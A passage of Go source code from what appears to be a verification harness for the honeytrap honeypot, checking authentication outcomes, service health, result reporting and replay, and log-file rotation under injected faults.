				prevUser = a.User
				o := ob.Attempts[i]
				if stop {
					if o.Made {
						fail("attempt-after-success", "an attempt was made after the connection had already authenticated")
					}
					continue
				}
				anonymous := sc.Svc == "ldap" && a.User == "" && a.Pass == ""
				want := refSuccess(sc.Svc, sc.Creds, a.User, a.Pass) || anonymous
				if !o.Made {
					fail("attempt-not-made", fmt.Sprintf("attempt %d (%q/%q) got no protocol answer", i, a.User, a.Pass))
					continue
				}
				wantEvs = append(wantEvs, [2]string{a.User, a.Pass})
				if o.Success != want {
					cls := "accepted-not-in-set"
					if want {
						cls = "rejected-although-in-set"
					}
					fail("outcome|"+cls+"|"+credClass(sc, a), fmt.Sprintf("attempt %d user %q password %q: service answered success=%v (%s), credential set %v gives %v", i, a.User, a.Pass, o.Success, o.Reply, sc.Creds, want))
				}
				if sc.Svc != "ssh-simulator" {
					if !loggedIn && o.GateBefore != "" && !strings.HasPrefix(o.GateBefore, "refused") {
						fail("gated-before-login"+byTag(sc), fmt.Sprintf("a gated operation was %s before any successful login on this connection (before attempt %d)%s", o.GateBefore, i, byNote(sc)))
					}
					realLogin := want && !anonymous
					if realLogin {
						loggedIn = true
						// the statement requires refusal before a login, not acceptance after one
					} else if anonymous {
						loggedIn = false
					}
					if !loggedIn && o.GateAfter != "" && !strings.HasPrefix(o.GateAfter, "refused") {
						fail("gated-before-login"+byTag(sc), fmt.Sprintf("a gated operation was %s although no login has succeeded on this connection (after attempt %d)%s", o.GateAfter, i, byNote(sc)))
					}
				}
				if sc.Svc == "ssh-simulator" && want {
					stop = true
				}
			}
			if len(ob.AuthEvs) != len(wantEvs) {
				fail("auth-event-count", fmt.Sprintf("%d authentication events for %d attempts made: %v", len(ob.AuthEvs), len(wantEvs), ob.AuthEvs))
			} else {
				for i := range wantEvs {
					if ob.AuthEvs[i] != wantEvs[i] {
						fail("auth-event-content", fmt.Sprintf("authentication event %d carries user %q password %q, presented %q / %q", i, ob.AuthEvs[i][0], ob.AuthEvs[i][1], wantEvs[i][0], wantEvs[i][1]))
						break
					}
				}
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s)", e.Class, e.Frame)})
		}
	}
	return out
}

func byTag(sc scenario) string {
	if sc.By > 0 {
		return "|while-another-connection-is-logged-in"
	}
	return ""
}

func byNote(sc scenario) string {
	if sc.By > 0 {
		return fmt.Sprintf("; another connection had logged in as %q (mode %d)", sc.ByCred.User, sc.By)
	}
	return ""
}

func credClass(sc scenario, a attempt) string {
	var c []string
	if a.User == "" {
		c = append(c, "empty-user")
	}
	if a.Pass == "" {
		c = append(c, "empty-password")
	}
	if a.DN {
		c = append(c, "dn-form")
	}
	for _, x := range sc.Creds {
		if x == "*" {
			c = append(c, "wildcard-in-set")
		}
	}
	if len(c) == 0 {
		return "plain"
	}
	return strings.Join(c, "+")
}

var _ = hex.EncodeToString
