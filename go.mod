module verif/htlab

go 1.21

require (
	github.com/BurntSushi/toml v0.3.0
	github.com/dgraph-io/badger v0.0.0-20180227002726-94594b20babf
	github.com/honeytrap/honeytrap v0.0.0
	github.com/mimoo/disco v0.0.0-20180114190844-15dd4b8476c9
	golang.org/x/crypto v0.0.0-20200128174031-69ecbb4d6d5d
)

require (
	github.com/AndreasBriese/bbloom v0.0.0-20170702084017-28f7e881ca57 // indirect
	github.com/Logicalis/asn1 v0.0.0-20160307192209-c9c836c1a3cd // indirect
	github.com/Shopify/sarama v1.16.0 // indirect
	github.com/boltdb/bolt v1.3.1 // indirect
	github.com/cenkalti/backoff/v4 v4.0.0 // indirect
	github.com/davecgh/go-spew v1.1.0 // indirect
	github.com/dgryski/go-farm v0.0.0-20180109070241-2de33835d102 // indirect
	github.com/dutchcoders/gobus v0.0.0-20180915095724-ece5a7810d96 // indirect
	github.com/eapache/go-resiliency v1.0.0 // indirect
	github.com/eapache/go-xerial-snappy v0.0.0-20160609142408-bb955e01b934 // indirect
	github.com/eapache/queue v1.1.0 // indirect
	github.com/elastic/go-lumber v0.1.0 // indirect
	github.com/fatih/color v1.6.0 // indirect
	github.com/fuyufjh/splunk-hec-go v0.3.3 // indirect
	github.com/glycerine/rbuf v0.0.0-20171031012212-54320fe9f6f3 // indirect
	github.com/go-asn1-ber/asn1-ber v0.0.0-20170511165959-379148ca0225 // indirect
	github.com/golang/protobuf v1.3.1 // indirect
	github.com/golang/snappy v0.0.0-20170215233205-553a64147049 // indirect
	github.com/google/gopacket v1.1.14 // indirect
	github.com/gorilla/websocket v1.2.0 // indirect
	github.com/honeytrap/protocol v0.0.0-20190410072324-219b95413db0 // indirect
	github.com/klauspost/compress v1.9.8 // indirect
	github.com/mailru/easyjson v0.0.0-20171120080333-32fa128f234d // indirect
	github.com/mattn/go-colorable v0.0.9 // indirect
	github.com/mattn/go-isatty v0.0.3 // indirect
	github.com/miekg/dns v1.0.4 // indirect
	github.com/mimoo/StrobeGo v0.0.0-20171206114618-43f0c284a7f9 // indirect
	github.com/op/go-logging v0.0.0-20160211212156-b2cb9fa56473 // indirect
	github.com/pierrec/lz4 v0.0.0-20171218195038-2fcda4cb7018 // indirect
	github.com/pierrec/xxHash v0.1.1 // indirect
	github.com/pkg/errors v0.8.0 // indirect
	github.com/pkg/profile v1.2.1 // indirect
	github.com/rcrowley/go-metrics v0.0.0-20180125231941-8732c616f529 // indirect
	github.com/rs/xid v0.0.0-20170604230408-02dd45c33376 // indirect
	github.com/satori/go.uuid v1.2.0 // indirect
	github.com/songgao/packets v0.0.0-20160404182456-549a10cd4091 // indirect
	github.com/songgao/water v0.0.0-20180221190335-75f112d19d5a // indirect
	github.com/streadway/amqp v0.0.0-20180315184602-8e4aba63da9f // indirect
	github.com/yuin/gopher-lua v0.0.0-20190206043414-8bfc7677f583 // indirect
	golang.org/x/net v0.0.0-20190404232315-eb5bcb51f2a3 // indirect
	golang.org/x/sys v0.0.0-20200202164722-d101bd2416d5 // indirect
	golang.org/x/time v0.0.0-20191024005414-555d28b269f0 // indirect
	gopkg.in/olivere/elastic.v5 v5.0.65 // indirect
	gopkg.in/urfave/cli.v1 v1.20.0 // indirect
)

replace github.com/honeytrap/honeytrap => /repo
