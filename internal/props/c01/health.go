package c01

import (
	"fmt"
	"time"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

// The health monitor decides "keeps serving new connections" for the service under test itself (the echo
// probe only shows that the process and the dispatcher live): one well-formed dialogue is run on a fresh
// connection before the workload (twice: the common prefix of the two replies is what the service says
// deterministically) and again after every few scenarios. A reply that has become shorter than that prefix
// means the service has stopped answering new connections the way it did.

type healthRef struct {
	Steps [][]byte
	Ref   []byte
	L     int
	n     int
}

type healthRec struct {
	K    int    `json:"k"`    // last scenario run before this health run
	Want int    `json:"want"` // bytes the service gave deterministically before the workload
	Got  int    `json:"got"`
	Same int    `json:"same_prefix"`
	Head string `json:"reply_head"`
}

func commonPrefix(a, b []byte) int {
	n := 0
	for n < len(a) && n < len(b) && a[n] == b[n] {
		n++
	}
	return n
}

// runHealth runs the dialogue in lock step on a fresh connection from a fresh address and returns the reply
// bytes; it waits (bounded) until at least want bytes have arrived.
func (h *healthRef) run(srv *lab.Server, s gen.Service, steps [][]byte, want int) []byte {
	h.n++
	ip := fmt.Sprintf("192.0.%d.%d", 2+(h.n>>8)&0xff, h.n&0xff)
	if s.Net == "udp" {
		var out []byte
		for i, st := range steps {
			x := srv.L.SendUDP(lab.UDPAddr("10.0.0.1", s.Port), lab.UDPAddr(ip, 5000+i), st)
			deadline := time.Now().Add(300 * time.Millisecond)
			for time.Now().Before(deadline) && x.Count() == 0 {
				time.Sleep(200 * time.Microsecond)
			}
			time.Sleep(2 * time.Millisecond)
			for _, r := range x.Snapshot() {
				out = append(out, r...)
			}
		}
		return out
	}
	cc := srv.L.DialTCP(lab.TCPAddr("10.0.0.1", s.Port), lab.TCPAddr(ip, 5000))
	cl := lab.NewClient(cc)
	defer cl.Close()
	cl.WaitIdle(200 * time.Millisecond)
	for _, st := range steps {
		if cl.Send(st, 2*time.Second) != nil {
			break
		}
		if cl.WaitIdle(200*time.Millisecond) == "closed" {
			break
		}
	}
	if want > 0 {
		cl.WaitFor(func(b []byte) bool { return len(b) >= want }, 3*time.Second)
	} else {
		time.Sleep(150 * time.Millisecond) // replies pushed by another goroutine (vnc frames)
	}
	return append([]byte(nil), cl.Received()...)
}

// newHealth picks, among the service's fixed cases and a few seeded dialogues, the one with the longest
// deterministic reply.
func newHealth(srv *lab.Server, s gen.Service) *healthRef {
	if s.Special == "ssh" || s.Special == "tls" {
		// the deterministic part of these is the version banner / nothing: the special scenarios cover them
	}
	var cands [][][]byte
	for _, f := range fixedCases(s) {
		if len(cands) < 3 {
			cands = append(cands, f)
		}
	}
	for i := 0; i < 4; i++ {
		cands = append(cands, s.Dialogue(core.NewRng(20260, "C01/health/"+s.Type+"/"+s.Net, i)))
	}
	best := &healthRef{}
	for _, c := range cands {
		total := 0
		for _, st := range c {
			total += len(st)
		}
		if total > 8192 {
			continue
		}
		h := &healthRef{Steps: c, n: best.n}
		r1 := h.run(srv, s, c, 0)
		r2 := h.run(srv, s, c, len(r1))
		best.n = h.n
		if l := commonPrefix(r1, r2); l > best.L {
			h.L, h.Ref = l, r1[:l]
			best = h
		}
	}
	return best
}

func (h *healthRef) check(srv *lab.Server, s gen.Service, k int) (healthRec, bool) {
	if h.L == 0 {
		return healthRec{K: k}, true
	}
	r := h.run(srv, s, h.Steps, h.L)
	if len(r) < h.L {
		// once more, in case the reply was merely late
		r = h.run(srv, s, h.Steps, h.L)
	}
	hd := r
	if len(hd) > 32 {
		hd = hd[:32]
	}
	rec := healthRec{K: k, Want: h.L, Got: len(r), Same: commonPrefix(r, h.Ref), Head: fmt.Sprintf("%x", hd)}
	return rec, len(r) >= h.L
}
