package core

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"
)

// Finding is one line of known_findings.jsonl (committed; never written at run time).
type Finding struct {
	Kind      string `json:"kind"` // "finding" | "fixed"
	Property  string `json:"property"`
	Signature string `json:"signature"`
	What      string `json:"what"`
	Commit    string `json:"commit,omitempty"`
}

func LoadFindings() []Finding {
	f, err := os.Open(filepath.Join(VerifDir(), "known_findings.jsonl"))
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []Finding
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	for sc.Scan() {
		ln := strings.TrimSpace(sc.Text())
		if ln == "" || strings.HasPrefix(ln, "#") {
			continue
		}
		var x Finding
		if json.Unmarshal([]byte(ln), &x) == nil {
			out = append(out, x)
		}
	}
	return out
}

type Evidence struct {
	PropertyID  string                 `json:"property_id"`
	Tier        string                 `json:"tier"`
	Seed        int64                  `json:"seed"`
	Level       string                 `json:"level"`
	Coverage    map[string]interface{} `json:"coverage"`
	Assumptions []string               `json:"assumptions"`
	WallS       float64                `json:"wall_s"`
	Violations  int                    `json:"violations"`
}

func Par() int {
	if s := os.Getenv("VERIF_PAR"); s != "" {
		if n, err := strconv.Atoi(s); err == nil && n > 0 {
			return n
		}
	}
	return 16
}

// Drive runs a property's check and returns the process exit code.
func Drive(id, tier string, seed int64) int {
	p := Get(id)
	if p == nil {
		fmt.Printf("ERROR unknown property %s\n", id)
		return 2
	}
	t0 := time.Now()
	plan := p.Plan(tier, seed)
	if only := os.Getenv("VERIF_ONLY"); only != "" { // development aid: run a subset of the plan
		var sub []Batch
		for _, b := range plan {
			if strings.Contains(b.Name, only) {
				sub = append(sub, b)
			}
		}
		plan = sub
	}
	for i := range plan {
		plan[i].Prop = id
		plan[i].Idx = i
		plan[i].Tier = tier
		plan[i].Seed = seed
	}
	workRoot, err := os.MkdirTemp("", "htv-"+id+"-")
	if err != nil {
		fmt.Printf("ERROR mktemp: %v\n", err)
		return 2
	}
	if os.Getenv("VERIF_KEEP") == "" {
		defer os.RemoveAll(workRoot)
	} else {
		fmt.Println("keeping work dir", workRoot)
	}

	par := Par()
	if pp, ok := p.(interface{ Parallelism() int }); ok && os.Getenv("VERIF_PAR") == "" {
		par = pp.Parallelism()
	}
	results, nrec, exits := RunAll(p, plan, par, workRoot)
	return Report(p, plan, tier, seed, results, nrec, exits, time.Since(t0))
}

func Report(p Prop, plan []Batch, tier string, seed int64, results []Result, nrec int, exits []Exit, wall time.Duration) int {
	id := p.ID()
	known := map[string]Finding{}
	for _, f := range LoadFindings() {
		if f.Property == id && f.Kind == "finding" {
			known[f.Signature] = f
		}
	}
	evals := 0
	keys := map[string]bool{}
	var samples []interface{}
	sampleKeys := map[string]bool{}
	inconc := map[string]int{}
	viol := map[string][]Result{}
	ks := map[[2]int]bool{}
	for _, r := range results {
		ks[[2]int{r.Batch, r.K}] = true
		evals++ // one result = one evaluated case (a scenario may hold several, e.g. probes)
		switch r.Verdict {
		case Inconclusive:
			inconc[r.What]++
			continue
		case Violated:
			viol[r.Sig] = append(viol[r.Sig], r)
		}
		if r.Key != "" {
			keys[r.Key] = true
			if r.Sample != nil && len(samples) < 5 && !sampleKeys[sampleClass(r.Key)] {
				sampleKeys[sampleClass(r.Key)] = true
				samples = append(samples, r.Sample)
			}
		}
	}
	if len(samples) == 0 {
		for _, r := range results {
			if r.Sample != nil && len(samples) < 3 {
				samples = append(samples, r.Sample)
			}
		}
	}

	var sigs []string
	for s := range viol {
		sigs = append(sigs, s)
	}
	sort.Strings(sigs)
	replayDir := filepath.Join(EvidenceDir(), "replays")
	nviol := 0
	var knownHit []string
	var lines []string
	for _, s := range sigs {
		rs := viol[s]
		if f, ok := known[s]; ok {
			knownHit = append(knownHit, s)
			lines = append(lines, fmt.Sprintf("KNOWN-FINDING: property=%s %s [signature %s; %d scenario(s) this run]", id, f.What, s, len(rs)))
			continue
		}
		nviol++
		if nviol > 20 {
			continue
		}
		os.MkdirAll(replayDir, 0755)
		path := filepath.Join(replayDir, fmt.Sprintf("%s-%d.json", id, nviol))
		r := rs[0]
		var b Batch
		for _, pb := range plan {
			if pb.Idx == r.Batch {
				b = pb
			}
		}
		b.From, b.To, b.Verbose = r.K, r.K+1, true
		if r.K < 0 { // a result about the batch as a whole (cumulative effects): replay all of it
			b.From, b.To = 0, 0
		}
		rep := map[string]interface{}{
			"property": id, "signature": s, "what": r.What, "k": r.K, "batch": b,
			"occurrences": len(rs), "witness": r.Witness,
			"how_to_replay": fmt.Sprintf("cd %s && ./check %s --replay %s", VerifDir(), id, path),
		}
		jb, _ := json.MarshalIndent(rep, "", " ")
		os.WriteFile(path, jb, 0644)
		lines = append(lines, fmt.Sprintf("VIOLATION property=%s replay=%s", id, path))
		lines = append(lines, fmt.Sprintf("  signature=%s what=%s", s, r.What))
	}
	var inc []string
	ninc := 0
	for w, n := range inconc {
		inc = append(inc, fmt.Sprintf("%s (n=%d)", w, n))
		ninc += n
	}
	sort.Strings(inc)

	deaths := 0
	raceSet := map[string]bool{}
	for _, e := range exits {
		if e.Died() {
			deaths++
		}
		for _, rr := range e.Races {
			raceSet[rr.Pair] = true
		}
	}
	var races []string
	for r := range raceSet {
		races = append(races, r)
	}
	sort.Strings(races)

	cov := map[string]interface{}{
		"evaluations":         evals,
		"distinct_nontrivial": len(keys),
		"rule":                p.Rule(),
		"samples":             samples,
		"records_observed":    nrec,
		"children_spawned":    len(exits),
		"child_deaths":        deaths,
		"inconclusive":        inc,
		"inconclusive_count":  ninc,
		"known_findings_hit":  knownHit,
		"races_observed":      races,
		"batches":             len(plan),
		"scenarios":           len(ks),
	}
	if s, ok := p.(Summarizer); ok {
		for k, v := range s.Summarize(results, nrec) {
			cov[k] = v
		}
	}
	ev := Evidence{PropertyID: id, Tier: tier, Seed: seed, Level: p.Level(), Coverage: cov,
		Assumptions: p.Assumptions(), WallS: wall.Seconds(), Violations: nviol}
	os.MkdirAll(EvidenceDir(), 0755)
	jb, _ := json.MarshalIndent(ev, "", " ")
	os.WriteFile(filepath.Join(EvidenceDir(), id+".json"), jb, 0644)

	for _, l := range lines {
		fmt.Println(l)
	}
	for _, w := range inc {
		fmt.Printf("INCONCLUSIVE property=%s %s\n", id, w)
	}
	fmt.Printf("SUMMARY property=%s tier=%s seed=%d evaluations=%d distinct_nontrivial=%d records=%d violations=%d known=%d inconclusive=%d child_deaths=%d wall=%.1fs\n",
		id, tier, seed, evals, len(keys), nrec, nviol, len(knownHit), ninc, deaths, wall.Seconds())
	if nviol > 0 {
		return 1
	}
	if evals == 0 || len(keys) < 2 {
		fmt.Printf("ERROR property=%s monitors observed too little (evaluations=%d distinct=%d): infrastructure failure, not a verdict\n", id, evals, len(keys))
		return 2
	}
	return 0
}

func sampleClass(key string) string {
	if i := strings.Index(key, "|"); i > 0 {
		return key[:i]
	}
	return key
}

// Replay re-runs the scenario stored in a replay file, verbosely.
func Replay(path string) int {
	raw, err := os.ReadFile(path)
	if err != nil {
		fmt.Println("ERROR", err)
		return 2
	}
	var rep struct {
		Property string `json:"property"`
		Batch    Batch  `json:"batch"`
	}
	if err := json.Unmarshal(raw, &rep); err != nil {
		fmt.Println("ERROR", err)
		return 2
	}
	p := Get(rep.Property)
	if p == nil {
		fmt.Println("ERROR unknown property", rep.Property)
		return 2
	}
	work, _ := os.MkdirTemp("", "htv-replay-")
	if os.Getenv("VERIF_KEEP") != "" {
		fmt.Println("keeping work dir", work)
	} else {
		defer os.RemoveAll(work)
	}
	b := rep.Batch
	b.NoRestart = true
	if b.From < 0 {
		b.From, b.To = 0, 0
	}
	recs, exits := RunBatch(b, work)
	res := p.Judge(b, recs, exits)
	code := 0
	for _, r := range res {
		jb, _ := json.MarshalIndent(r, "", " ")
		fmt.Println(string(jb))
		if r.Verdict == Violated {
			code = 1
		}
	}
	for _, e := range exits {
		if e.Died() {
			fmt.Printf("child exit: code=%d signal=%s class=%s frame=%s\n%s\n", e.Code, e.Signal, e.Class, e.Frame, e.Stderr)
		}
	}
	return code
}
