// Package c07: the file channel keeps every event as one intact JSON line
// across rotations. Two layers run the real code: the exported rotating-file
// writer driven directly over line-length sequences around the rotation
// boundary, and the real FileBackend end to end; after quiescence the files on
// disk are parsed line by line and compared with what was accepted.
package c07

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"
	fschannel "github.com/honeytrap/honeytrap/pushers/file"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C07" }
func (prop) Level() string { return "fault_enumeration" }
func (prop) Rule() string {
	return "direct: every sequence of up to 4 (quick) / 6 (thorough) single-line writes with line lengths from {10, 11, 511, 512, 1022, 1023, 1024, 1025, 2049} to the real rotating writer with max size 1024 (exhaustive), seeded sequences of multi-line batches for max sizes 1024/4096/1 MiB, with the log file renamed or removed externally, or the writer closed and a new instance opened on the same path (restart), between writes (fault points: before every write; restart exhaustively for sequences up to 3 writes); end to end: the real FileBackend fed bursts of 1..5000 stamped events of 2 B..600 KiB from 1/4/32 goroutines, read back 2.5 s after the last Send and again until the files have been at rest for 2 s; faults: destination directory missing or unwritable before the writer opens the file. Non-trivial = a sequence that caused >=1 rotation or a backend whose file received >=1 line; distinct by sequence / backend parameters. In a third of the real-backend scenarios an unserialisable event (NaN value) follows every fifth stamped event. Fault dir-removed-later: after three events and one flush interval the directory that holds the log file is removed for good; the remaining Sends must return. Trickle scenarios: one event every 250 ms for five seconds; after three seconds the first four events must be on disk although events keep coming; the channel is closed right after the last event and everything it accepted must still be written."
}
func (prop) Assumptions() []string {
	return []string{"a final line without trailing newline counts as a line if it parses", "lines removed by the harness's own external 'rm' are not expected back; an externally renamed file is read back under its new name", "under an unwritable destination only 'Send does not block forever' is demanded"}
}

var lens = []int{10, 11, 511, 512, 1022, 1023, 1024, 1025, 2049}

// line returns a JSON line of exactly n bytes (including the newline) carrying a stamp.
func line(stamp, n int) []byte {
	head := fmt.Sprintf(`{"s":%d`, stamp)
	pad := n - len(head) - 2
	if pad < 0 {
		pad = 0
	}
	return []byte(head + strings.Repeat(" ", pad) + "}\n")
}

type params struct {
	Mode  string `json:"mode"` // seq | seeded | backend
	First int    `json:"first"`
	Len   int    `json:"len"`
	N     int    `json:"n"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	L, seeded, backends := 4, 6000, 48
	if tier == "thorough" {
		L, seeded, backends = 6, 150000, 400
	}
	var plan []core.Batch
	for f := range lens {
		p, _ := json.Marshal(params{Mode: "seq", First: f, Len: L})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("seq/%d", f), N: 1, Params: p, Timeout: 3000})
	}
	for c := 0; c < 4; c++ {
		p, _ := json.Marshal(params{Mode: "seeded", First: c, N: seeded / 4})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("seeded/%d", c), N: 1, Params: p, Timeout: 3000})
	}
	for c := 0; c < 3; c++ {
		p, _ := json.Marshal(params{Mode: "backend", First: c, N: backends / 3})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("backend/%d", c), N: 1, Params: p, Timeout: 3000})
	}
	return plan
}

// ---- read-back oracle ---------------------------------------------------------------------

type readback struct {
	Stamps   map[int]int
	BadLines []string
	Oversize []string
	Files    int
}

func readAll(path string, maxSize int64, extra ...string) readback {
	rb := readback{Stamps: map[int]int{}}
	files, _ := filepath.Glob(path + "*")
	files = append(files, extra...)
	sort.Strings(files)
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		rb.Files++
		ls := bytes.Split(b, []byte("\n"))
		nonEmpty := 0
		for i, l := range ls {
			if len(l) == 0 {
				if i != len(ls)-1 {
					rb.BadLines = append(rb.BadLines, fmt.Sprintf("%s: empty line %d", filepath.Base(f), i))
				}
				continue
			}
			nonEmpty++
			var m map[string]interface{}
			if err := json.Unmarshal(l, &m); err != nil {
				h := l
				if len(h) > 40 {
					h = h[:40]
				}
				rb.BadLines = append(rb.BadLines, fmt.Sprintf("%s line %d (%d bytes) does not parse: %q", filepath.Base(f), i, len(l), h))
				continue
			}
			var st float64
			ok := false
			if v, has := m["s"].(float64); has {
				st, ok = v, true
			} else if v, has := m["stamp"].(float64); has {
				st, ok = v, true
			}
			if !ok {
				rb.BadLines = append(rb.BadLines, fmt.Sprintf("%s line %d has no stamp", filepath.Base(f), i))
				continue
			}
			rb.Stamps[int(st)]++
		}
		if int64(len(b)) > maxSize && nonEmpty > 1 {
			rb.Oversize = append(rb.Oversize, fmt.Sprintf("%s has %d bytes (> %d) in %d lines", filepath.Base(f), len(b), maxSize, nonEmpty))
		}
	}
	return rb
}

type problem struct {
	Rule string `json:"rule"`
	Desc string `json:"desc"`
	Seq  string `json:"seq"`
}

type seqObs struct {
	Sequences int                `json:"sequences"`
	Rotating  int                `json:"rotating"`
	Classes   map[string]int     `json:"classes"`
	Examples  map[string]problem `json:"examples"`
	Sample    string             `json:"sample"`
	MaxLen    int                `json:"max_len"`
}

func (o *seqObs) bad(rule, desc, seq string) {
	o.Classes[rule]++
	if _, ok := o.Examples[rule]; !ok {
		o.Examples[rule] = problem{rule, desc, seq}
	}
}

// batch is one Write call: several lines.
type batchT []int // line lengths

// runSeq writes the batches to a fresh rotating file and checks what is on disk.
// fault: 0 none, 1 rename the log file before write #at, 2 remove it before write #at,
// 3 restart: close the writer and open a new instance on the same path before write #at.
func runSeq(dir string, id int, maxSize int64, batches []batchT, fault, at int, ob *seqObs) {
	ob.Sequences++
	sub := filepath.Join(dir, fmt.Sprintf("s%d", id))
	os.MkdirAll(sub, 0755)
	defer os.RemoveAll(sub)
	path := filepath.Join(sub, "events.log")
	desc := func() string {
		s := fmt.Sprintf("max=%d batches=%v", maxSize, batches)
		if fault > 0 {
			s += fmt.Sprintf(" fault=%d@%d", fault, at)
		}
		return s
	}
	w, err := fschannel.OpenRotateFile(path, 0600, maxSize)
	if err != nil {
		ob.bad("open", err.Error(), desc())
		return
	}
	stamp := 0
	want := map[int]bool{}
	lineLen := map[int]int{}
	var extra []string
	for bi, b := range batches {
		if fault == 1 && bi == at {
			moved := filepath.Join(sub, "moved-away.log")
			if os.Rename(path, moved) == nil {
				extra = append(extra, moved)
			}
		}
		if fault == 2 && bi == at {
			// lines living in the removed file are gone by the operator's hand
			if data, err := os.ReadFile(path); err == nil {
				for _, l := range bytes.Split(data, []byte("\n")) {
					var m map[string]interface{}
					if json.Unmarshal(l, &m) == nil {
						if v, ok := m["s"].(float64); ok {
							delete(want, int(v))
						}
					}
				}
			}
			os.Remove(path)
		}
		if fault == 3 && bi == at && bi > 0 {
			// the channel is restarted: a new writer instance continues on the same path
			w.Sync()
			w.Close()
			w2, err := fschannel.OpenRotateFile(path, 0600, maxSize)
			if err != nil {
				ob.bad("reopen", err.Error(), desc())
				return
			}
			w = w2
		}
		var buf []byte
		for _, n := range b {
			stamp++
			want[stamp] = true
			lineLen[stamp] = n
			buf = append(buf, line(stamp, n)...)
		}
		done := make(chan error, 1)
		go func() { _, err := w.Write(buf); done <- err }()
		select {
		case err := <-done:
			if err != nil {
				ob.bad("write-error", err.Error(), desc())
			}
		case <-time.After(20 * time.Second):
			ob.bad("write-never-returns", "Write did not return within 20 s", desc())
			return
		}
	}
	w.Sync()
	w.Close()
	rb := readAll(path, maxSize, extra...)
	if rb.Files > 1 {
		ob.Rotating++
	}
	if len(rb.BadLines) > 0 {
		ob.bad("corrupt-line", rb.BadLines[0], desc())
	}
	var lost, dup []int
	for s := range want {
		if rb.Stamps[s] == 0 {
			lost = append(lost, s)
		}
	}
	for s, n := range rb.Stamps {
		if n > 1 {
			dup = append(dup, s)
		}
	}
	sort.Ints(lost)
	sort.Ints(dup)
	if len(lost) > 0 {
		ob.bad("lost-line", fmt.Sprintf("stamps %v written but on no file (%d files on disk)", lost, rb.Files), desc())
	}
	if len(dup) > 0 {
		ob.bad("duplicated-line", fmt.Sprintf("stamps %v appear more than once", dup), desc())
	}
	if len(rb.Oversize) > 0 {
		ob.bad("oversize-file", rb.Oversize[0], desc())
	}
}

func childSeq(p params, o *core.Obs) {
	ob := seqObs{Classes: map[string]int{}, Examples: map[string]problem{}, MaxLen: p.Len}
	dir := filepath.Join(lab.WorkDir(), "rot")
	id := 0
	seq := []batchT{{lens[p.First]}}
	var rec func(depth int)
	rec = func(depth int) {
		id++
		runSeq(dir, id, 1024, seq, 0, 0, &ob)
		if ob.Sample == "" && depth == p.Len {
			ob.Sample = fmt.Sprint(seq)
		}
		if depth == p.Len {
			return
		}
		for _, n := range lens {
			seq = append(seq, batchT{n})
			rec(depth + 1)
			seq = seq[:len(seq)-1]
		}
	}
	rec(1)
	// the same sequences up to 3 writes with the writer restarted before every later write
	// (all within the same second: the rotated files of the first instance must survive)
	var rec2 func(depth int)
	seq = []batchT{{lens[p.First]}}
	rec2 = func(depth int) {
		for at := 1; at < len(seq); at++ {
			id++
			runSeq(dir, id, 1024, seq, 3, at, &ob)
		}
		if depth == 3 {
			return
		}
		for _, n := range lens {
			seq = append(seq, batchT{n})
			rec2(depth + 1)
			seq = seq[:len(seq)-1]
		}
	}
	rec2(1)
	o.EmitX("seq", ob)
}

func childSeeded(b core.Batch, p params, o *core.Obs) {
	ob := seqObs{Classes: map[string]int{}, Examples: map[string]problem{}, MaxLen: 8}
	dir := filepath.Join(lab.WorkDir(), "rot")
	for i := 0; i < p.N; i++ {
		r := core.NewRng(b.Seed, "C07/seeded", p.First*10000000+i)
		maxSize := int64(r.PickI([]int{1024, 1024, 4096, 1 << 20}))
		var bs []batchT
		for j := r.Range(1, 8); j > 0; j-- {
			var bt batchT
			for l := r.Range(1, 3); l > 0; l-- {
				n := lens[r.Intn(len(lens))]
				switch {
				case maxSize == 4096:
					n = r.PickI([]int{10, 100, 2047, 2048, 4094, 4095, 4096, 4097, 9000})
				case maxSize == 1<<20:
					n = r.PickI([]int{100, 5000, 500000, 524288, 1048575, 1048576, 1048577})
				case r.Chance(1, 4):
					n = r.Range(9, 1100)
				}
				bt = append(bt, n)
			}
			if maxSize == 1024 && r.Chance(1, 10) { // a big batch, as the 500 KiB flush produces
				for l := r.Range(20, 200); l > 0; l-- {
					bt = append(bt, r.Range(9, 300))
				}
			}
			bs = append(bs, bt)
		}
		fault, at := 0, 0
		if r.Chance(2, 5) {
			fault, at = r.Range(1, 3), r.Intn(len(bs))
		}
		runSeq(dir, i, maxSize, bs, fault, at, &ob)
		if i == 0 {
			ob.Sample = fmt.Sprint(bs)
		}
	}
	o.EmitX("seq", ob)
}

// ---- end to end --------------------------------------------------------------------------

type backendObs struct {
	Backends int                `json:"backends"`
	WithData int                `json:"with_data"`
	Events   int                `json:"events"`
	Classes  map[string]int     `json:"classes"`
	Examples map[string]problem `json:"examples"`
	Sample   string             `json:"sample"`
}

func childBackend(b core.Batch, p params, o *core.Obs) {
	ob := backendObs{Classes: map[string]int{}, Examples: map[string]problem{}}
	var mu sync.Mutex
	bad := func(rule, desc, seq string) {
		mu.Lock()
		defer mu.Unlock()
		ob.Classes[rule]++
		if _, ok := ob.Examples[rule]; !ok {
			ob.Examples[rule] = problem{rule, desc, seq}
		}
	}
	fn, _ := pushers.Get("file")
	var wg sync.WaitGroup
	for i := 0; i < p.N; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			r := core.NewRng(b.Seed, "C07/backend", p.First*100000+i)
			dir := filepath.Join(lab.WorkDir(), fmt.Sprintf("be%d", i))
			os.MkdirAll(dir, 0755)
			defer os.RemoveAll(dir)
			path := filepath.Join(dir, "events.log")
